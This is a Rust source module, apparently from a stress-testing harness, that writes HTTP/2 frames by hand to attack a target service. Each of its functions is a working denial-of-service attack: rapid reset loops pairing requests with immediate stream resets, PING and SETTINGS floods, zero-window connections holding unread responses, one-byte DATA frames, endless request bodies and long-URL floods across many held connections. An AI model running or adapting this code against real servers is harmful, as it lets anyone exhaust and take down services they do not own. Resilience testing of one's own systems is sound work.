//! HTTP/2 with frames written by hand, as a peer sends them who has read the specification for its gaps.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use super::reading::long_path;
use super::{Run, Target, bodies};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RESET: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GO_AWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const TABLE_SIZE: u16 = 0x1;
const INITIAL_WINDOW: u16 = 0x4;
/// As many as the service allows on a connection.
const STREAMS: u32 = 128;
/// How many pieces the first words of the service come in at most.
const HELLOS_MAX: usize = 8;
/// How long a peer that takes nothing in is written to.
const STUCK: Duration = Duration::from_millis(500);

struct Connection {
    stream: TcpStream,
    received: Vec<u8>,
    next: u32,
}

impl Connection {
    /// Says hello, and how much of each answer may be sent before it is asked for.
    fn open(target: &Target, window: u32) -> io::Result<Connection> {
        let stream = TcpStream::connect_timeout(&target.address, super::exchange::PATIENCE)?;
        stream.set_nodelay(true)?;
        stream.set_write_timeout(Some(STUCK))?;
        let mut connection = Connection { stream, received: Vec::new(), next: 1 };
        // Without a table, the service writes each status in full.
        let settings = [(TABLE_SIZE, 0), (INITIAL_WINDOW, window)];
        let settings = settings.map(|(name, value)| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat());
        connection.send(&[PREFACE, &frame(SETTINGS, 0, 0, &settings.concat())].concat())?;
        // How much may be sent at all is said at once. Whoever sends more breaks the protocol, and is let go for that.
        for _ in 0..HELLOS_MAX {
            connection.stream.set_read_timeout(Some(STUCK))?;
            let mut buffer = [0; 1024];
            let length = connection.stream.read(&mut buffer)?;
            connection.received.extend_from_slice(buffer.get(..length).unwrap_or_default());
            while let Some(frame) = connection.take_frame() {
                if frame.first() == Some(&WINDOW_UPDATE) {
                    return Ok(connection);
                }
            }
        }
        Ok(connection)
    }

    fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stream.write_all(bytes)
    }

    /// The number of the next stream.
    fn stream(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }

    /// Notes what has arrived. False when the service has hung up.
    fn listen(&mut self, run: &Run, span: Duration) -> bool {
        let _ = self.stream.set_read_timeout(Some(span.max(Duration::from_millis(1))));
        let mut buffer = [0; 16 * 1024];
        match self.stream.read(&mut buffer) {
            Ok(0) => return false,
            Ok(length) => self.received.extend_from_slice(buffer.get(..length).unwrap_or_default()),
            Err(error) => return matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut),
        }
        while let Some(frame) = self.take_frame() {
            match frame.as_slice() {
                [HEADERS, _, _, _, _, _, block @ ..] => run.note(status_in(block)),
                [RESET, _, _, _, _, _, _, _, _, code] => run.note(format!("reset {code}")),
                [GO_AWAY, _, _, _, _, _, _, _, _, _, _, _, _, code, ..] => run.note(format!("goaway {code}")),
                _ => {}
            }
        }
        true
    }

    /// Kind, flags, stream and payload.
    fn take_frame(&mut self) -> Option<Vec<u8>> {
        let length = self.received.get(..3)?.iter().fold(0, |length, byte| length << 8 | usize::from(*byte));
        self.received.get(..9 + length)?;
        Some(self.received.drain(..9 + length).skip(3).collect())
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [length.get(1..).unwrap_or_default(), &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn request(stream: u32, flags: u8, method: &str, path: &str, token: &str) -> Vec<u8> {
    let mut fields = vec![(":method", method), (":scheme", "http"), (":authority", "pilot.example"), (":path", path)];
    let authorization = format!("Bearer {token}");
    if !token.is_empty() {
        fields.push(("authorization", &authorization));
    }
    if method == "POST" {
        fields.push(("content-type", "application/json"));
    }
    // Every field is a literal that is neither indexed nor compressed.
    let block: Vec<u8> =
        fields.iter().flat_map(|(name, value)| [&[0][..], &literal(name), &literal(value)].concat()).collect();
    frame(HEADERS, END_HEADERS | flags, stream, &block)
}

fn literal(text: &str) -> Vec<u8> {
    let mut prefix = Vec::new();
    let mut rest = text.len();
    if rest < 127 {
        prefix.push(u8::try_from(rest).unwrap_or(0));
    } else {
        // HPACK's integer: 127 in the prefix, then the rest in groups of seven bits.
        prefix.push(127);
        rest -= 127;
        while rest >= 128 {
            prefix.push(u8::try_from(rest & 0x7F).unwrap_or(0) | 0x80);
            rest >>= 7;
        }
        prefix.push(u8::try_from(rest).unwrap_or(0));
    }
    [&prefix, text.as_bytes()].concat()
}

/// The status at the beginning of a header block: an index, or a literal of three digits.
fn status_in(block: &[u8]) -> String {
    let known = ["200", "204", "206", "304", "400", "404", "500"];
    match block {
        // The size of the table is stated first.
        [0x20..=0x3F, rest @ ..] => status_in(rest),
        [index @ 0x88..=0x8E, ..] => known.get(usize::from(index - 0x88)).copied().unwrap_or("?").to_owned(),
        [0x48 | 0x08, length @ 0x82..=0x83, packed @ ..] => digits_in(packed.get(..usize::from(length & 0x7F))),
        [0x48 | 0x08, 3, digits @ ..] => String::from_utf8_lossy(digits.get(..3).unwrap_or_default()).into_owned(),
        _ => format!("{block:02x?}"),
    }
}

/// Three digits in HPACK's Huffman code: five bits for 0 to 2, six for 3 to 9.
fn digits_in(packed: Option<&[u8]>) -> String {
    let packed = packed.unwrap_or_default();
    let bits: Vec<u8> = packed.iter().flat_map(|byte| (0..8).rev().map(move |at| byte >> at & 1)).collect();
    let number = |bits: &[u8]| bits.iter().fold(0_u8, |number, bit| number << 1 | bit);
    let (mut text, mut rest) = (String::new(), bits.as_slice());
    while text.len() < 3 && rest.len() >= 5 {
        let short = number(rest.get(..5).unwrap_or_default());
        let (digit, length) = if short <= 2 {
            (short, 5)
        } else {
            (number(rest.get(..6).unwrap_or_default()).saturating_sub(0x19) + 3, 6)
        };
        text.push(char::from(b'0'.saturating_add(digit)));
        rest = rest.get(length..).unwrap_or_default();
    }
    text
}

/// Opens connections, says the same on every stream of each, and holds all of them until the end.
fn on_every_stream(target: &Target, run: &Run, connections: usize, window: u32, say: impl Fn(u32) -> Vec<u8>) {
    let mut held = Vec::new();
    for _ in 0..connections {
        let Ok(mut connection) = Connection::open(target, window) else { break };
        for _ in 0..STREAMS {
            let stream = connection.stream();
            if run.is_late() || connection.send(&say(stream)).is_err() {
                break;
            }
        }
        held.push(connection);
    }
    // On a busy machine saying it takes as long as an attack lasts, and what comes back has to be heard all the same.
    run.is_prepared();
    while !run.is_over() && !held.is_empty() {
        let span = run.left() / u32::try_from(held.len()).unwrap_or(1);
        held.retain_mut(|connection| connection.listen(run, span.min(Duration::from_millis(5))));
    }
}

/// A body begins on every stream and never ends: small ones and large ones.
pub(super) fn endless_bodies(target: &Target, run: &Run) {
    let connections = run.of(20, 400);
    on_every_stream(target, run, connections, 65_535, |stream| {
        let head = request(stream, 0, "POST", "/v1/items", &target.initiator);
        [head, frame(DATA, 0, stream, &[b' '; 1_900])].concat()
    });
}

/// As much of bodies as the windows allow, in frames of one byte: each is kept apart until it is read.
pub(super) fn tiny_frames(target: &Target, run: &Run) {
    let connections = run.of(8, 100);
    on_every_stream(target, run, connections, 65_535, |stream| {
        let head = request(stream, 0, "POST", "/v1/items", &target.initiator);
        [head, frame(DATA, 0, stream, b" ").repeat(2_000)].concat()
    });
}

/// Large answers on every stream, none of which may be sent.
pub(super) fn unread_answers(target: &Target, run: &Run) {
    bodies::write_drafts(target, run, run.of(30, 200));
    run.is_prepared();
    let connections = run.of(10, 200);
    let paths = ["/v1/items?limit=200", "/openapi.json", "/v1/events", "/v1/workflows/controlled-operation"];
    on_every_stream(target, run, connections, 0, |stream| {
        let path = paths.get(stream as usize / 2 % paths.len()).copied().unwrap_or_default();
        request(stream, END_STREAM, "GET", path, &target.initiator)
    });
}

/// Small answers to nobody, none of which may be sent: what costs is how many there are.
pub(super) fn small_unread_answers(target: &Target, run: &Run) {
    let connections = run.of(72, 400);
    on_every_stream(target, run, connections, 0, |stream| request(stream, END_STREAM, "GET", "/healthz", ""));
}

/// URLs that take a while to look through, on every stream of many connections, by nobody; with a body each.
pub(super) fn long_urls(target: &Target, run: &Run) {
    let path = long_path("a-b.c_d~");
    let connections = run.of(20, 400);
    on_every_stream(target, run, connections, 65_535, |stream| {
        let head = request(stream, 0, "POST", &path, "");
        [head, frame(DATA, 0, stream, &[b' '; 1_900])].concat()
    });
}

/// Asks and takes back in the same breath.
pub(super) fn rapid_reset(target: &Target, run: &Run) {
    thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while !run.is_over() {
                    let Ok(mut connection) = Connection::open(target, 65_535) else { return };
                    while !run.is_over() {
                        let pairs: Vec<u8> = (0..64)
                            .flat_map(|_| {
                                let stream = connection.stream();
                                let head = request(stream, END_STREAM, "GET", "/v1/items", &target.initiator);
                                [head, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
                            })
                            .collect();
                        let is_sent = connection.send(&pairs).is_ok();
                        if !connection.listen(run, Duration::from_millis(1)) || !is_sent {
                            break;
                        }
                    }
                }
            });
        }
    });
}

/// Pings and settings, each of which has to be answered, and nothing else.
pub(super) fn pings_and_settings(target: &Target, run: &Run) {
    let noise = [frame(PING, 0, 0, b"pingping"), frame(SETTINGS, 0, 0, &[])].concat().repeat(400);
    thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while !run.is_over() {
                    let Ok(mut connection) = Connection::open(target, 65_535) else { return };
                    while !run.is_over() && connection.send(&noise).is_ok() {
                        if !connection.listen(run, Duration::from_millis(1)) {
                            break;
                        }
                        run.note("noise".into());
                    }
                }
            });
        }
    });
}
